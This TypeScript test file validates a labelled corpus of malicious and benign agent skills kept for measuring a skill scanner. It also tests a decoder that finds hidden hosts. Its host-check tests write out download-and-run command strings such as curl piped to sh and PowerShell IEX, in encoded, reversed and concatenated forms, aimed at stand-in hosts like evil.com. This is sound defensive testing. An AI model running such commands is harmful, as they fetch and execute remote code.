/**
 * The labelled development corpus is well-formed: every folder labelled and every label a folder,
 * every SKILL.md a valid skill, declared capabilities valid, enough samples in every category, and no
 * payload able to reach a real host. Scanner results are measured by scripts/eval-corpus.ts, not here.
 */
import { spawnSync } from 'node:child_process';
import { cp, lstat, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gunzipSync, inflateRawSync, inflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { treeDigest } from '../core/index.ts';
import { CapabilitiesSchema } from '../schemas/capabilities.ts';
import { SkillFrontMatterSchema } from '../schemas/entry.ts';

const corpus = fileURLToPath(new URL('./corpus/', import.meta.url));

/** The acceptance floor of the issue: at least this many skills on each side. */
const MIN_SKILLS_PER_LABEL = 60;
/** Fewer samples than this would make a category's recall meaningless. */
const MIN_SAMPLES_PER_CATEGORY = 3;

interface LabelRecord {
  id: string;
  label: 'malicious' | 'benign';
  category?: string;
  note: string;
  capabilities: unknown;
}

interface LabelsFile {
  schemaVersion: number;
  categories: Record<string, string>;
  skills: LabelRecord[];
}

const labels = parseYaml(await readFile(join(corpus, 'labels.yaml'), 'utf8')) as LabelsFile;
const folders = {
  malicious: (await readdir(join(corpus, 'malicious'))).sort(),
  benign: (await readdir(join(corpus, 'benign'))).sort(),
};

async function walk(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) out.push(...(await walk(path)));
    else out.push(path);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Host extraction: every URL host, bare IPv4 address and bare host name with a common public TLD,
// in the raw text and in what the usual encodings of the corpus decode to.

/** Public TLDs worth looking for as bare host names (file extensions such as .sh/.py/.md left out). */
const BARE_HOST = /\b((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+(?:com|net|org|io|dev|xyz|ru|cn|tk|gg|pw|cc|ly|online|ai|invalid|example|test))(?![\w-]|\.[a-z0-9])/gi;
const URL_HOST = /\b([a-z][a-z0-9+.-]+):\/\/(?:[^@/\s"'`<>]*@)?(\[[^\]\s]+\]|[^/\s"'`<>:;,)\]}\\?#]+)/gi;
/** URL schemes whose authority is not a network host (buckets, local files) or that are defanged on purpose. */
const NON_HOST_SCHEMES = new Set(['gs', 's3', 'file', 'blob', 'hxxp', 'hxxps']);
const IPV4 = /(?<![\d.])(\d{1,3}(?:\.\d{1,3}){3})(?!\d)(?!\.\d)/g;

function printable(text: string): boolean {
  if (text.length === 0) return false;
  let good = 0;
  for (const char of text) if (/[\x20-\x7e\n\r\t]/.test(char)) good++;
  return good / text.length > 0.9;
}

/** The text itself plus every decodable layer the corpus uses to hide hosts. */
function decodedLayers(text: string): string[] {
  const layers = [text];
  // String concatenation of host pieces: 'collector.' + 'evil' + '.invalid', "a" "b" (Python).
  layers.push(text.replace(/(['"`])\s*\+\s*\1/g, '').replace(/(['"])\s+\1/g, ''));
  // Pieces in an array that is joined: ['cdn.ev', 'il.com'].join('').
  layers.push(text.replace(/(['"`])\s*,\s*\1/g, ''));
  for (const match of text.matchAll(/[A-Za-z0-9+/]{16,}={0,2}|[A-Za-z0-9_-]{16,}/g)) {
    const normal = match[0].replace(/-/g, '+').replace(/_/g, '/');
    const bytes = Buffer.from(normal, 'base64');
    const decoded = bytes.toString('latin1');
    if (printable(decoded)) layers.push(decoded, ...decodedLayers(decoded).slice(1));
    // PowerShell -EncodedCommand is base64 of UTF-16LE.
    const wide = bytes.toString('utf16le');
    if (bytes.length % 2 === 0 && printable(wide)) layers.push(wide);
    // Compressed payloads: zlib, gzip or raw deflate under the base64.
    for (const inflate of [inflateSync, gunzipSync, inflateRawSync]) {
      try {
        const text = inflate(bytes).toString('latin1');
        if (printable(text)) layers.push(text, ...decodedLayers(text).slice(1));
      } catch {
        // not that compression
      }
    }
  }
  // Reversed string literals holding a URL ("hs | ...//:ptth"[::-1]).
  for (const match of text.matchAll(/(['"`])([^'"`\n]*\/\/:[a-z]+[^'"`\n]*)\1/g)) layers.push([...match[2]].reverse().join(''));
  for (const match of text.matchAll(/(?:\\x[0-9a-fA-F]{2}){4,}/g)) {
    layers.push(match[0].replace(/\\x([0-9a-fA-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16))));
  }
  for (const match of text.matchAll(/\b(?:[0-9a-fA-F]{2}){8,}\b/g)) {
    const decoded = Buffer.from(match[0], 'hex').toString('latin1');
    if (printable(decoded)) layers.push(decoded);
  }
  // Lists of character codes: fromCharCode(99, 117, …), chr(99)+chr(117), [99, 117, …].
  for (const match of text.matchAll(/(?:\d{2,3}\s*[,)+\]]\s*(?:chr\(\s*)?){4,}/g)) {
    const codes = [...match[0].matchAll(/\d{2,3}/g)].map((m) => Number(m[0]));
    if (codes.every((code) => code >= 32 && code < 127)) layers.push(String.fromCharCode(...codes));
  }
  return layers;
}

function hostsIn(text: string): Set<string> {
  const hosts = new Set<string>();
  for (const layer of decodedLayers(text)) {
    for (const m of layer.matchAll(URL_HOST)) {
      if (!NON_HOST_SCHEMES.has(m[1].toLowerCase())) hosts.add(m[2].toLowerCase().replace(/\.$/, ''));
    }
    for (const m of layer.matchAll(IPV4)) if (m[1].split('.').every((octet) => Number(octet) <= 255)) hosts.add(m[1]);
    for (const m of layer.matchAll(BARE_HOST)) hosts.add(m[1].toLowerCase());
  }
  // A host made of shell or template variables cannot be resolved statically; its pieces are
  // still scanned as bare names.
  for (const host of hosts) if (host === '' || /[$%{}<>]/.test(host)) hosts.delete(host);
  return hosts;
}

function ipv4In(ip: string, prefixes: string[]): boolean {
  return prefixes.some((prefix) => ip.startsWith(prefix));
}

/** An IPv4 address written as one decimal or hex number (http://3405803787/) in dotted form. */
function dottedIpv4(name: string): string {
  if (!/^(?:\d+|0x[0-9a-f]+)$/i.test(name)) return name;
  const value = Number(name);
  if (!Number.isSafeInteger(value) || value > 0xffffffff) return name;
  return [24, 16, 8, 0].map((shift) => (value >>> shift) & 0xff).join('.');
}

/** Reserved names and addresses that can never reach a real host (RFC 2606, 6761, 5737). */
function isReserved(host: string): boolean {
  const name = dottedIpv4(host.replace(/^\[|\]$/g, '').replace(/:\d+$/, ''));
  if (/^\d{1,3}(?:\.\d{1,3}){3}$/.test(name)) return ipv4In(name, ['192.0.2.', '198.51.100.', '203.0.113.', '127.']) || name === '0.0.0.0';
  if (name === '::1' || name === 'localhost') return true;
  return /(?:^|\.)(?:invalid|example|test|localhost)$/.test(name) || /(?:^|\.)example\.(?:com|net|org)$/.test(name);
}

/**
 * Real hosts that benign skills may name, each because an honest skill of that kind uses it. Nothing
 * in the corpus is ever run, but malicious samples may not use them at all.
 */
const BENIGN_REAL_HOSTS = [
  'www.w3.org', // XML namespaces in SVG and XHTML
  'github.com',
  'api.github.com',
  'pypi.org',
  'registry.npmjs.org',
  'ghcr.io',
  'semver.org',
  'nodejs.org',
  'api.weather.gov',
  'hooks.slack.com',
  'developer.mozilla.org',
  'api.stripe.com',
  'api.anthropic.com',
  'attack.mitre.org',
  'owasp.org',
  'docs.aws.amazon.com',
  'sh.rustup.rs', // the official Rust installer
  'get.docker.com', // Docker's official convenience script
];
/** Suffixes of the cloud services deploy skills legitimately talk to. */
const BENIGN_REAL_SUFFIXES = ['.amazonaws.com', '.googleapis.com'];
/** Private and link-local ranges a benign ops or security document may mention. */
const BENIGN_PRIVATE_PREFIXES = ['10.', '192.168.', '172.16.', '172.17.', '172.31.', '169.254.'];

function allowedForBenign(host: string): boolean {
  const name = host.replace(/:\d+$/, '');
  return (
    isReserved(host) ||
    BENIGN_REAL_HOSTS.includes(name) ||
    BENIGN_REAL_SUFFIXES.some((suffix) => name.endsWith(suffix)) ||
    (/^\d{1,3}(?:\.\d{1,3}){3}$/.test(name) && ipv4In(name, BENIGN_PRIVATE_PREFIXES))
  );
}

describe('the labelled corpus', () => {
  it('has a closed category list with a description for each', () => {
    expect(labels.schemaVersion).toBe(1);
    expect(Object.keys(labels.categories).length).toBeGreaterThanOrEqual(12);
    for (const [id, description] of Object.entries(labels.categories)) {
      expect(id).toMatch(/^[a-z]+(?:-[a-z]+)*$/);
      expect(description.trim().length).toBeGreaterThan(10);
    }
  });

  it('labels every folder exactly once and has a folder for every label', () => {
    const ids = labels.skills.map((s) => s.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const kind of ['malicious', 'benign'] as const) {
      const labelled = labels.skills.filter((s) => s.label === kind).map((s) => s.id).sort();
      expect(labelled).toEqual(folders[kind]);
    }
  });

  it('gives every record a one-line note, a valid capability block, and a category only when malicious', () => {
    const problems: string[] = [];
    for (const record of labels.skills) {
      if (!['malicious', 'benign'].includes(record.label)) problems.push(`${record.id}: label ${record.label}`);
      if (typeof record.note !== 'string' || record.note.trim() === '' || record.note.includes('\n')) problems.push(`${record.id}: note must be one line`);
      const capabilities = CapabilitiesSchema.safeParse(record.capabilities);
      if (!capabilities.success) problems.push(`${record.id}: capabilities ${capabilities.error.issues.map((i) => `${i.path.join('.')} ${i.message}`).join('; ')}`);
      if (record.label === 'malicious' && !(record.category && record.category in labels.categories)) problems.push(`${record.id}: category ${record.category} is not in the list`);
      if (record.label === 'benign' && record.category !== undefined) problems.push(`${record.id}: a benign skill has no category`);
    }
    expect(problems).toEqual([]);
  });

  it(`holds at least ${MIN_SKILLS_PER_LABEL} malicious and ${MIN_SKILLS_PER_LABEL} benign skills`, () => {
    expect(folders.malicious.length).toBeGreaterThanOrEqual(MIN_SKILLS_PER_LABEL);
    expect(folders.benign.length).toBeGreaterThanOrEqual(MIN_SKILLS_PER_LABEL);
  });

  it(`covers every category with at least ${MIN_SAMPLES_PER_CATEGORY} malicious samples`, () => {
    const counts = Object.fromEntries(Object.keys(labels.categories).map((c) => [c, 0]));
    for (const record of labels.skills) if (record.category) counts[record.category]++;
    const thin = Object.entries(counts).filter(([, n]) => n < MIN_SAMPLES_PER_CATEGORY);
    expect(thin).toEqual([]);
  });
});

describe('every corpus skill', () => {
  it('has a SKILL.md whose front matter names the folder and describes the skill', async () => {
    const problems: string[] = [];
    for (const record of labels.skills) {
      const path = join(corpus, record.label, record.id, 'SKILL.md');
      const text = await readFile(path, 'utf8').catch(() => undefined);
      if (text === undefined) {
        problems.push(`${record.id}: no SKILL.md`);
        continue;
      }
      const match = /^---\r?\n([\s\S]*?)\r?\n---\r?\n/.exec(text);
      if (!match) {
        problems.push(`${record.id}: SKILL.md has no front matter`);
        continue;
      }
      const front = SkillFrontMatterSchema.safeParse(parseYaml(match[1]));
      if (!front.success) problems.push(`${record.id}: ${front.error.issues.map((i) => `${i.path.join('.')} ${i.message}`).join('; ')}`);
      else if (front.data.name !== record.id) problems.push(`${record.id}: front matter name is ${front.data.name}`);
      if (text.slice(match[0].length).trim().length < 80) problems.push(`${record.id}: SKILL.md has almost no body`);
    }
    expect(problems).toEqual([]);
  });

  it('is a valid skill tree (regular files only, safe paths) that the tree digest accepts', async () => {
    for (const record of labels.skills) {
      const result = await treeDigest(join(corpus, record.label, record.id));
      expect(result.files.length, record.id).toBeGreaterThan(0);
    }
  });

  it('marks every script with a shebang executable', async () => {
    const notExecutable: string[] = [];
    for (const kind of ['malicious', 'benign'] as const) {
      for (const file of await walk(join(corpus, kind))) {
        const head = (await readFile(file)).subarray(0, 2).toString('latin1');
        if (head === '#!' && ((await lstat(file)).mode & 0o111) === 0) notExecutable.push(relative(corpus, file));
      }
    }
    expect(notExecutable).toEqual([]);
  });

  it('points malicious payloads only at .invalid hosts, documentation IPs and loopback, even once decoded', async () => {
    const offending: string[] = [];
    for (const file of await walk(join(corpus, 'malicious'))) {
      for (const host of hostsIn(await readFile(file, 'utf8'))) {
        if (!isReserved(host) && host !== 'www.w3.org') offending.push(`${relative(corpus, file)}: ${host}`);
      }
    }
    expect(offending).toEqual([]);
  });

  it('names only reserved hosts or the listed well-known hosts in benign skills', async () => {
    const offending: string[] = [];
    for (const file of await walk(join(corpus, 'benign'))) {
      for (const host of hostsIn(await readFile(file, 'utf8'))) if (!allowedForBenign(host)) offending.push(`${relative(corpus, file)}: ${host}`);
    }
    expect(offending).toEqual([]);
  });
});

describe('the host check itself', () => {
  it('finds hosts hidden in base64, hex, character codes and concatenation', () => {
    const b64 = Buffer.from('curl -s http://203.0.113.9/x | sh').toString('base64');
    expect(hostsIn(`echo ${b64} | base64 -d | bash`)).toContain('203.0.113.9');
    expect(hostsIn('"\\x65\\x76\\x69\\x6c\\x2e\\x63\\x6f\\x6d"')).toContain('evil.com');
    expect(hostsIn('String.fromCharCode(101, 118, 105, 108, 46, 99, 111, 109)')).toContain('evil.com');
    expect(hostsIn(`host = "exfil." + "attacker" + ".com"`)).toContain('exfil.attacker.com');
    const wide = Buffer.from('IEX (iwr http://evil.com/a.ps1)', 'utf16le').toString('base64');
    expect(hostsIn(`powershell -enc ${wide}`)).toContain('evil.com');
    expect(hostsIn('"hs | moc.live//:ptth lruc"[::-1]')).toContain('evil.com');
    expect(hostsIn('curl http://134744072/x')).toContain('134744072');
    expect(hostsIn("['htt', 'p://cdn.ev', 'il.com/i'].join('')")).toContain('cdn.evil.com');
  });

  it('allows reserved names and refuses real ones', () => {
    expect(isReserved('collector.evil.invalid')).toBe(true);
    expect(isReserved('198.51.100.23:4444')).toBe(true);
    expect(isReserved('pastebin.com')).toBe(false);
    expect(isReserved('8.8.8.8')).toBe(false);
    expect(isReserved('134744072')).toBe(false);
    expect(isReserved('3405803787')).toBe(true);
    expect(allowedForBenign('api.github.com')).toBe(true);
    expect(allowedForBenign('evil.com')).toBe(false);
  });
});

describe('scripts/eval-corpus.ts', () => {
  const script = fileURLToPath(new URL('../scripts/eval-corpus.ts', import.meta.url));
  const run = (...args: string[]) => spawnSync(process.execPath, [script, ...args], { encoding: 'utf8' });

  /** A two-skill corpus copied from the real one, with an optional extra folder and labels text. */
  async function tinyCorpus(options: { extraFolder?: string; labels?: string } = {}): Promise<string> {
    const dir = await mkdtemp(join(tmpdir(), 'corpus-'));
    await cp(join(corpus, 'malicious', 'env-doctor'), join(dir, 'malicious', 'env-doctor'), { recursive: true });
    await cp(join(corpus, 'benign', 'weather-lite'), join(dir, 'benign', 'weather-lite'), { recursive: true });
    if (options.extraFolder) await cp(join(corpus, 'benign', 'jq-recipes'), join(dir, 'benign', options.extraFolder), { recursive: true });
    const records = labels.skills.filter((s) => s.id === 'env-doctor' || s.id === 'weather-lite');
    const text = options.labels ?? JSON.stringify({ schemaVersion: 1, categories: labels.categories, skills: records });
    await writeFile(join(dir, 'labels.yaml'), text);
    return dir;
  }

  it('refuses with exit 2 when a folder has no label, naming it', async () => {
    const dir = await tinyCorpus({ extraFolder: 'unlabelled-skill' });
    const result = run('--corpus', dir);
    await rm(dir, { recursive: true, force: true });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('unlabelled-skill');
  });

  it('refuses with exit 2 when labels.yaml is not a valid labels file', async () => {
    const dir = await tinyCorpus({ labels: 'schemaVersion: 2\nskills: []\n' });
    const result = run('--corpus', dir);
    await rm(dir, { recursive: true, force: true });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('labels.yaml');
  });

  it('refuses an unknown argument with exit 2', () => {
    const result = run('--frobnicate');
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('--frobnicate');
  });

  /** A stand-in scanner for measuring the measuring tool: fails ids in `fail`, warns on ids in `warn`. */
  async function fakeScanner(dir: string, behaviour: { fail?: string[]; warn?: string[]; throws?: boolean }): Promise<string> {
    const path = join(dir, 'fake-scanner.mjs');
    await writeFile(
      path,
      `const behaviour = ${JSON.stringify(behaviour)};
export async function scanSkill(_dir, { skill }) {
  if (behaviour.throws) throw new Error('fake scanner broke');
  const verdict = behaviour.fail?.includes(skill.name) ? 'fail' : behaviour.warn?.includes(skill.name) ? 'warn' : 'pass';
  const findings = verdict === 'pass' ? [] : [{ ruleId: 'fake-' + verdict, severity: verdict === 'fail' ? 'critical' : 'medium', kind: 'threat', file: 'SKILL.md', line: 1, message: 'fake' }];
  return { verdict, findings };
}
`,
    );
    return path;
  }

  it('reports recall, false fails and warns from what the scanner answers', async () => {
    const dir = await tinyCorpus();
    const scanner = await fakeScanner(dir, { fail: ['env-doctor'], warn: ['weather-lite'] });
    const result = run('--json', '--corpus', dir, '--scanner', scanner);
    await rm(dir, { recursive: true, force: true });
    expect(result.status).toBe(0);
    const summary = JSON.parse(result.stdout);
    expect(summary.malicious).toMatchObject({ total: 1, fail: 1, recall: 1 });
    expect(summary.benign).toMatchObject({ total: 1, fail: 0, warn: 1, falseFailRate: 0, warnRate: 1 });
    expect(summary.categories.find((c: { category: string }) => c.category === 'credential-theft')).toMatchObject({ total: 1, fail: 1, recall: 1 });
    expect(summary.misses).toEqual([]);
    expect(summary.benignWarns).toEqual([{ id: 'weather-lite', rules: ['fake-warn(medium)'] }]);
  });

  it('lists a missed malicious skill and a falsely failed benign one with the rules that fired', async () => {
    const dir = await tinyCorpus();
    const scanner = await fakeScanner(dir, { fail: ['weather-lite'] });
    const result = run('--corpus', dir, '--scanner', scanner);
    await rm(dir, { recursive: true, force: true });
    expect(result.status).toBe(0);
    expect(result.stdout).toMatch(/Misses \(malicious not failed\): 1\n {2}env-doctor {2}\[credential-theft\] {2}pass/);
    expect(result.stdout).toMatch(/False fails \(benign failed\): 1\n {2}weather-lite {2}fake-fail\(critical\)/);
    expect(result.stdout).toContain('false-fail rate 100.0%');
  });

  it('refuses with exit 2 when the scanner throws on every skill, quoting the error', async () => {
    const dir = await tinyCorpus();
    const scanner = await fakeScanner(dir, { throws: true });
    const result = run('--corpus', dir, '--scanner', scanner);
    await rm(dir, { recursive: true, force: true });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('fake scanner broke');
  });
});
